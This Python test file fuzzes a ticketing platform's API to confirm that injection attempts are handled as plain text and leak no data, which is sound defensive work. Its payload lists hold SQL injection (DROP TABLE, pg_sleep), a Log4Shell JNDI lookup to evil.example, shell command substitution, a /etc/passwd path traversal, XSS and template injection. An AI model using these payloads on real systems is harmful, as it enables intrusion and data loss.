"""Text that means something elsewhere is text here: in every field of every operation."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from uuid import uuid4

import psycopg2
import pytest
from local_stack.stack import Stack

from deals import Deal
from gate import Gate
from asking import Door, Keys, asked
from http_raw import RawAnswer, send
from platform_client import Api, Buyer, Records
from snapshot import DATABASES

PAYLOADS = (
    "' OR 1=1 --",
    "' OR '1'='1",
    '"; DROP TABLE users; --',
    "'); SELECT pg_sleep(3); --",
    "'||(SELECT pg_sleep(3))||'",
    "' UNION SELECT NULL,NULL --",
    "\\'; SELECT pg_sleep(3); --",
    "%' OR '%'='%",
    "%00%0d%0aX-Injected: 1",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{%print(7*7)%}${7*7}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "$(id)`id`;id|id",
    "{0.__class__.__mro__}%s%n%x",
    '{"$gt": ""}',
    "\u202eevil\u2066 \U0001f4a3\ufeff.",
    "a" * 3000,
)
_IN_AN_EMAIL = (
    "'or'1'='1'--@example.com",
    "a'||pg_sleep(3)||'b@example.com",
    "{{7*7}}${7*7}@example.com",
    "%27%20or%201=1@example.com",
    "<script>@example.com",
    "user1@example.com'--",
    "user1@example.com\u0000",
    "*@example.com",
    "%@example.com",
    "_ser1@example.com",
)
# a slash makes another path of it; and what may only be letters, say, is refused for what it is
_REFUSED = {
    "path": ((404, "NOT_FOUND"), (400, "VALIDATION_ERROR")),
    "query": ((400, "VALIDATION_ERROR"),),
    "body": ((400, "VALIDATION_ERROR"),),
}


def outcome(answer: RawAnswer) -> tuple[int, str | int]:
    """What came of it: the code of a refusal, or how much there was."""
    if answer.status >= 400:
        return answer.refusal
    data = json.loads(answer.body).get("data")
    return answer.status, len(data) if isinstance(data, list) else 1


@contextmanager
def nobody_sleeps(stack: Stack) -> Iterator[list[str]]:
    """Whatever a statement has the databases sleep over meanwhile."""
    asleep: list[str] = []
    done = threading.Event()
    sql = "SELECT query FROM pg_stat_activity WHERE wait_event = 'PgSleep'"

    def look() -> None:
        with psycopg2.connect(stack.database_url(DATABASES[0])) as connection:
            connection.autocommit = True
            while not done.wait(0.2):
                with connection.cursor() as cursor:
                    cursor.execute(sql)
                    asleep.extend(query for (query,) in cursor.fetchall())

    watch = threading.Thread(target=look)
    watch.start()
    try:
        yield asleep
    finally:
        done.set()
        watch.join()


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_it_is_answered_like_any_other_text_of_its_length(
    doors: list[Door], stack: Stack, keys: Keys, payload: str
) -> None:
    with nobody_sleeps(stack) as asleep:
        for door in doors:
            for field in (one for one in door.operation.fields if one.is_text):
                plain = "o" * len(payload)
                got, expected = (
                    outcome(send(door.port, asked(door, keys, field, value))[0])
                    for value in (payload, plain)
                )
                assert got in (expected, *_REFUSED[field.where]), (door, field.name)
    assert asleep == []


def test_nor_do_addresses_of_nobody_find_anybody(
    doors: list[Door], stack: Stack, keys: Keys
) -> None:
    tried = 0
    with nobody_sleeps(stack) as asleep:
        for door in doors:
            for field in door.operation.fields:
                if '"email"' not in json.dumps(field.schema):
                    continue
                for email in _IN_AN_EMAIL:
                    (answer,) = send(door.port, asked(door, keys, field, email))
                    assert answer.status < 500, (door, email)
                    assert b"user1@example.com" not in answer.body, (door, email)
                    tried += 1
    assert asleep == [] and tried > 50


def test_a_statement_that_sleeps_would_be_noticed(stack: Stack, records: Records) -> None:
    """The negative control: text pasted into a statement, as it must not be."""
    with nobody_sleeps(stack) as asleep:
        payload = "'||(SELECT pg_sleep(1))||'"
        records.query("user", f"SELECT count(*) FROM users WHERE full_name = '{payload}'")
    assert asleep


def test_what_is_stored_comes_back_as_it_was_given(
    api: Api, admin: Api, new_deal: Callable[..., Deal], gate: Gate
) -> None:
    short = [payload for payload in PAYLOADS if len(payload) <= 100]
    for name in short:
        email = f"{uuid4().hex}@example.com"
        account = {"email": email, "password": name.ljust(8, "x"), "full_name": name}
        api.ok("POST", "/api/auth/register", **account)
        assert admin.ok("GET", f"/api/admin/users?email={email}")["full_name"] == name
        api.logged_in(email, account["password"])
    deal = new_deal().completed()
    for reason in short:
        assert deal.settle("dispute", deal.buyer.api, reason=reason).is_success
        seen = deal.seller.api.ok("GET", f"/api/transfers/{deal.transfer_id}")
        assert seen["dispute_reason"] == reason
        assert deal.settle("dismiss", gate.staff, reason=reason).is_success
    for hall in (payload for payload in short if len(payload) <= 20):
        outcome_there = gate.result(gate.code(deal.seat_id, deal.buyer), hall_id=hall)
        assert outcome_there["result"] == "WRONG_HALL"


def test_no_list_grows_by_what_is_asked_beside_it(
    new_deal: Callable[..., Deal], new_buyer: Callable[..., Buyer]
) -> None:
    """Filters of the services within are none for who asks from outside."""
    deal, stranger = new_deal().begun(), new_buyer(credits=7)
    people = ("user_id", "seller_user_id", "owner_user_id", "staff_id", "sub")
    everything = dict.fromkeys(people, deal.seller.user_id)
    everything |= {"seat_id": deal.seat_id, "order_id": deal.order_id}
    for path in ("/api/orders", "/api/transfers", "/api/tickets"):
        assert deal.seller.api.ok("GET", path)
        asked_for = stranger.api.call("GET", path, params=everything)
        assert asked_for.json()["data"] == []
    for path in ("/api/credits/ledger", "/api/credits/balance"):
        own = stranger.api.ok("GET", path)
        assert stranger.api.call("GET", path, params=everything).json()["data"] == own
